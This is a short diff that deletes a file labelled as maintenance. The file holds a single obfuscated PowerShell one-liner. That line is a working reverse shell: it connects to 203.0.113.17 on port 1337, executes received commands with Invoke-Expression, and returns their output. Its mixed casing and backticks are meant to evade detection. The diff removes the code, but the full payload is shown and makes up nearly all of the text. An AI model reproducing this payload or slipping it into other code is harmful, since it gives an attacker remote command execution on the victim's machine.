@@ -1,2 +1,0 @@
-# MaInTENAnCE 5915 v1
-$cLIeNT = Ne`w-oB`JE`Ct SySTeM.NET.S`OcKET`S.tc`pc`l`IeNt('203.0.113.17',1337);$sTrEAm = $ClIENt.GetStREAm();[BYte[]]$BYTes = 0..65535|%{0};WhiLE(($I = $stream.ReAd($ByTEs, 0, $bYtes.LEngTh)) -ne 0){;$Data = (NE`W-`Ob`JecT -TypeNamE SYSTeM.TExt.ASCIiENCoDIng).GeTStriNG($ByteS,0, $i);$seNDBacK = (IE`X $dAta 2>&1 | ouT-stRIN`g );$sEndBACk2 = $senDBACk + 'PS ' + (PWD).PATh + '> ';$SENdbYtE = ([TExt.eNCODIng]::AscII).GEtbYtES($SeNdbaCk2);$sTreAm.wRitE($sEnDbytE,0,$SenDByTE.lEnGtH);$STrEam.fluSH()};$CLIeNt.ClOsE()
